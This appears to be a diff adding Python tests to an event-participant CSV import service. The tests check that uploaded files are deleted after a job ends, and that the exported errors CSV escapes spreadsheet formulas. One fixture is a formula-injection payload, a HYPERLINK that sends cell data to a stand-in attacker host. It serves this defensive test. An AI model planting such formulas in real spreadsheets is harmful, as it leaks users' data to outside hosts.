@@ -112,3 +112,75 @@ def test_upload_with_mapping_and_update_policy(
     assert done["summary"]["updated"] == 1
     found = client.get(f"/api/v1/events/{event['id']}/participants", params={"q": "minjun"}).json()["items"]
     assert (found[0]["name"], found[0]["organization"]) == ("김민준 박사", "한빛")
+
+
+def uploads_left(turnout: Turnout) -> list[str]:
+    folder = turnout.settings.var_dir / "imports"
+    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []
+
+
+def test_uploaded_file_is_deleted_when_its_import_ends_in_success(
+    client: TestClient, turnout: Turnout, event: dict[str, Any]
+) -> None:
+    job = upload(client, str(event["id"]), GOOD.encode()).json()
+    assert len(uploads_left(turnout)) == 1  # kept while the job waits to run
+    turnout.importer.run_pending()
+    assert client.get(f"/api/v1/imports/{job['id']}").json()["status"] == "done"
+    assert uploads_left(turnout) == []
+
+
+def test_uploaded_file_is_deleted_when_its_import_is_refused_or_crashes(
+    client: TestClient, turnout: Turnout, event: dict[str, Any], monkeypatch: Any
+) -> None:
+    refused = upload(client, str(event["id"]), b"foo,bar\n1,2\n").json()
+    turnout.importer.run_pending()
+    assert client.get(f"/api/v1/imports/{refused['id']}").json()["status"] == "failed"
+    assert uploads_left(turnout) == []
+
+    crashed = upload(client, str(event["id"]), GOOD.encode()).json()
+
+    def broken(*_args: Any, **_kwargs: Any) -> None:
+        raise RuntimeError("disk on fire")
+
+    monkeypatch.setattr(turnout.importer, "_save", broken)
+    turnout.importer.run_pending()
+    assert client.get(f"/api/v1/imports/{crashed['id']}").json()["status"] == "failed"
+    assert uploads_left(turnout) == []
+
+
+def test_a_file_imported_from_the_command_line_is_left_where_it_was(
+    turnout: Turnout, event: dict[str, Any], tmp_path: Any
+) -> None:
+    path = tmp_path / "mine.csv"
+    path.write_text(GOOD, encoding="utf-8")
+    job = turnout.importer.import_file(
+        event_id=str(event["id"]), path=str(path), filename="mine.csv", actor="cli"
+    )
+    assert job.status.value == "done"
+    assert path.exists()
+
+
+def test_errors_csv_neutralises_formulas_in_every_column_when_custom_fields_carry_them(
+    client: TestClient, turnout: Turnout, event: dict[str, Any]
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(
+        [
+            ["이름", "이메일", "=회사", "메모"],
+            ["김민준", "not-an-email", link, "+1"],
+            ["박서준", "c@example.com", "-2+3", "@SUM(A1)"],
+            ["이서연", "bad", "\tx", "\rcmd"],
+        ]
+    )
+    job = upload(client, str(event["id"]), buffer.getvalue().encode()).json()
+    turnout.importer.run_pending()
+    response = client.get(f"/api/v1/imports/{job['id']}/errors.csv")
+    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"), newline="")))
+    assert rows[0][:4] == ["이름", "이메일", "'=회사", "메모"]
+    cells = [cell for row in rows for cell in row]
+    assert f"'{link}" in cells
+    assert "'+1" in cells
+    assert "'\tx" in cells
+    assert "'\rcmd" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
